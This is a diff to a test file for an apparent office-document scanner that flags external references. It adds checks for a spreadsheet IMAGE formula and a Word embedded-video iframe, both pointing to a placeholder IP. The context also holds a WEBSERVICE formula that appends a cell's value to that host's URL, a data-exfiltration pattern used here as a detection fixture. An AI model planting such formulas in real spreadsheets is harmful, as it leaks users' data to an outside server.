@@ -300,7 +300,16 @@ def test_a_cell_that_fetches_is_a_reference_and_one_that_calculates_is_none(scan
 
     report = scan(sheet('_xlfn.WEBSERVICE("http://203.0.113.7/"&amp;A1)'), "a.xlsx")
     assert details(report, "external-reference") == ['spreadsheet function WEBSERVICE: "http://203.0.113.7/"&A1)']
+    report = scan(sheet('_xlfn.IMAGE("http://203.0.113.7/a.png")'), "a.xlsx")
+    assert details(report, "external-reference") == ['spreadsheet function IMAGE: "http://203.0.113.7/a.png")']
     assert details(scan(sheet("SUM(A1:A3)"), "a.xlsx"), "external-reference") == []
+
+
+def test_the_page_behind_a_film_is_a_reference(scan):
+    film = '<w:p><wp15:webVideoPr xmlns:wp15="x" embeddedHtml="&lt;iframe src=&quot;https://203.0.113.7&quot;&gt;" h="1"/></w:p>'
+    assert details(scan(fixtures.word(film), "a.docx"), "external-reference") == [
+        'web video: <iframe src="https://203.0.113.7">'
+    ]
 
 
 def test_macros_of_another_office_are_macros(scan):
